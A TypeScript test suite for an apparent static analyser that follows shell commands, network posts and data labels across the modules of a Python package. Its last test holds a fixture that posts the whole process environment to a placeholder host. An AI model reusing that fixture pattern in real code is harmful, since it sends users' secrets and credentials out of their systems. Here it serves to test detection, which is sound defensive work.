import { describe, expect, test } from 'vitest';
import type { JsFacts } from '../js/facts.ts';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';
import { createLinkedModule, type ModuleLink } from './linked.ts';

/** Facts of `main`, whose package has these modules beside it. */
function analyze(main: string, modules: Readonly<Record<string, string>>): JsFacts {
  const link: ModuleLink = (specifier) => {
    const name = specifier.replace(/^\.|^own\./, '');
    const text = name === 'main' ? main : modules[name];
    return text === undefined ? null : createLinkedModule(name, text, link);
  };
  return analyzePython(main, { linked: { id: 'main', link } });
}

const commandsOf = ({ commands }: JsFacts): (string | null)[] => commands.map(({ line }) => line);

describe('what a module imports from its own package', () => {
  test.each([
    ['by a relative name', 'from .conf import LINE\n'],
    ['by its whole name', 'from own.conf import LINE\n'],
    ['by another name', 'from .conf import LINE as x\nLINE = x\n'],
    ['by a star', 'from .conf import *\n'],
    ['as a module', 'from . import conf\nLINE = conf.LINE\n'],
    ['as a module of another name', 'import own.conf as c\nLINE = c.LINE\n'],
  ])('is the constant that it is: %s', (_how, imports) => {
    const facts = analyze(`${imports}import os\nos.system(LINE)\n`, { conf: "LINE = 'make ' + 'all'\n" });

    expect(commandsOf(facts)).toEqual(['make all']);
  });

  test('is told at the call that stands in the source', () => {
    const main = 'from .shell import go\n\ngo("make")\n';
    const facts = analyze(main, { shell: 'import os\n\n\n\n\ndef go(line):\n    os.system(line)\n' });

    expect(commandsOf(facts)).toEqual(['make']);
    expect(facts.commands[0]?.offset).toBe(main.indexOf('go("make")'));
    expect(facts.flow.flows.map(({ away }) => away)).toEqual([true]);
  });

  test('calls back where that stands', () => {
    const main = 'import os\nfrom .each import each\ndef go(x):\n    os.system(x)\neach(go)\n';
    const facts = analyze(main, { each: "def each(f):\n    f('make')\n" });

    expect(facts.commands[0]?.offset).toBe(main.indexOf('os.system'));
    expect(facts.flow.flows[0]?.away).toBeUndefined();
  });

  test('leaves no facts of its own', () => {
    const facts = analyze('from . import other\n', {
      other: "import os\nos.system('make')\nopen('x', 'w')\n",
    });

    expect(commandsOf(facts)).toEqual([]);
    expect(facts.capabilities).toEqual([]);
    expect(facts.fileActions).toEqual([]);
  });

  test('is not run as a program with it', () => {
    const facts = analyzePython('from .conf import LINE\nimport os\nos.system(LINE)\n', {
      script: true,
      linked: {
        id: 'main',
        link: (specifier) =>
          specifier === '.conf'
            ? createLinkedModule(
                'conf',
                "LINE = 'a'\nif __name__ == '__main__':\n    LINE = 'b'\n",
                () => null,
              )
            : null,
      },
    });

    expect(commandsOf(facts)).toEqual(['a']);
  });

  test('may import in a circle', () => {
    const facts = analyze('from .a import X\nimport os\nos.system(X)\n', {
      a: "from .b import Y\nX = 'make ' + Y\n",
      b: "from .a import X\nY = 'all'\n",
    });

    expect(commandsOf(facts)).toEqual(['make all']);
  });

  test('says what another module reads of an answer', () => {
    const ask = 'import requests\ndef ask(x):\n    r = requests.post("https://a.weir.test", json=x)\n';
    const unheeded = (net: string): boolean[] =>
      analyze('from .net import ask\nask({})\n', { net }).flow.flows.map((flow) => flow.unheeded === true);

    expect(unheeded(ask)).toEqual([true]);
    expect(unheeded(`${ask}    return r.json()\n`)).toEqual([false]);
  });

  test('says that nobody reads what another module throws away', () => {
    const net =
      'import requests\ndef ask(x):\n    requests.post("https://a.weir.test", json=x).close()\n    return 1\n';
    const { flow } = analyze(
      'from .net import ask\nclass A:\n    def go(self):\n        self.at = ask({})\n',
      { net },
    );

    expect(flow.flows.map(({ unheeded }) => unheeded)).toEqual([true]);
  });

  test('hands on labels of functions, classes and objects', () => {
    const facts = analyze(
      'from .env import Env\nimport requests\nrequests.post("https://a.weir.test", json=Env().all())\n',
      {
        env: 'import os\nclass Env:\n    def all(self):\n        return dict(os.environ)\n',
      },
    );

    expect((facts.flow.flows[0]?.labels ?? 0) & LABEL.envAll).toBe(LABEL.envAll);
  });
});
